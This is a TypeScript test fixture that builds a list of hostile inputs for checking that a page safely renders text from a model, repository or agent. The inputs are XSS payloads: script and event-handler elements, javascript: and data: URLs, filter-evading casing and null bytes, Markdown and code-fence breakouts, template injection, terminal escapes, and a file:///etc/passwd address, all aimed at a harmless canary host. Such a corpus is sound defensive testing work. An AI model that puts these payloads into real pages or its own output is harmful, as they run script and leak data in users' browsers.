/**
 * What a hostile model, repository or agent may say to make a page run or fetch something.
 *
 * Each payload would set `window.__pwned` or ask the canary host for something if it were taken for more than text.
 */
export const CANARY = "canary.invalid";

const RUN = "window.__pwned=1";
const ELSEWHERE = `http://${CANARY}/x`;

/** Elements that run something by themselves when they are drawn. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}.png">`,
  `<img srcset="${ELSEWHERE}.png 1x">`,
  `<picture><source srcset="${ELSEWHERE}"><img></picture>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${ELSEWHERE}.svg#a"></use></svg>`,
  `<svg><image href="${ELSEWHERE}.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}">`,
  `<video src="${ELSEWHERE}" onerror="${RUN}" autoplay></video>`,
  `<video poster="${ELSEWHERE}"></video>`,
  `<audio src="${ELSEWHERE}" onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type=image src="${ELSEWHERE}">`,
  `<details open ontoggle="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css">`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<link rel=dns-prefetch href="//${CANARY}">`,
  `<style>@import "${ELSEWHERE}.css";</style>`,
  `<style>*{background:url(${ELSEWHERE})}</style>`,
  `<div style="background:url(${ELSEWHERE})">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button>x</button></form>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<table background="${ELSEWHERE}"></table>`,
  `<frameset onload="${RUN}"></frameset>`,
  `<isindex action="javascript:${RUN}">`,
  `<x contenteditable onbeforeinput="${RUN}">`,
  `<div onpointerover="${RUN}" onanimationstart="${RUN}">`,
  `<dialog open onclose="${RUN}">`,
  `<custom-element onclick="${RUN}">`,
];

/** Ways to write an element so that a filter misses it. */
const DISGUISES: ((element: string) => string)[] = [
  (element) => element,
  (element) => element.toUpperCase().replaceAll("WINDOW.__PWNED", "window.__pwned"),
  (element) => element.replace("<", "<\u0000"),
  (element) => element.replace(" ", "/"),
];

/** Addresses that do something when they are followed, or even when they are only shown. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:${ELSEWHERE}`,
  `file:///etc/passwd`,
  `//${CANARY}/x`,
  `\\\\${CANARY}\\x`,
  ELSEWHERE,
];

/** Places in Markdown where an address stands. */
const MARKDOWN: ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `![picture](${address})`,
  (address) => `[ref]\n\n[ref]: ${address}`,
  (address) => `<${address}>`,
];

/** Markdown that breaks out of something, or half of it. */
const BREAKOUTS = [
  `\`\`\`html\n<img src=x onerror="${RUN}">\n\`\`\``,
  `\`\`\`"><img src=x onerror="${RUN}">\ntext\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src='${ELSEWHERE}'>"]-->B; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`svg\n<svg onload="${RUN}"/>\n\`\`\``,
  `\`\` \` <img src=x onerror="${RUN}"> \``,
  `![x](" onerror="${RUN})`,
  `[x](x "title" onmouseover="${RUN}")`,
  `[<img src=x onerror="${RUN}">](x)`,
  `http://x"onmouseover="${RUN}"`,
  `www.${CANARY}/"><img src=x onerror=${RUN}>`,
  `a@b.c"><svg onload=${RUN}>`,
  `| a | b |\n|---|---|\n| <img src=x onerror="${RUN}"> | x |`,
  `# <img src=x onerror="${RUN}">`,
  `> <script>${RUN}</script>`,
  `- <svg onload=${RUN}>`,
  `[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
  `<!-- --><img src=x onerror="${RUN}"> -->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `\u001b]8;;${ELSEWHERE}\u0007link\u001b]8;;\u0007`,
  `\u001b[31mred\u001b[0m\r\u009b2J`,
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `<img src=x onerror="${RUN}`,
  `<a href="`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</script><script>${RUN}</script>`,
  `</pre></div><img src=x onerror="${RUN}">`,
];

export const HOSTILE: readonly string[] = [
  ...ELEMENTS.flatMap((element) => DISGUISES.map((disguise) => disguise(element))),
  ...ADDRESSES.flatMap((address) => MARKDOWN.map((place) => place(address))),
  ...BREAKOUTS,
];
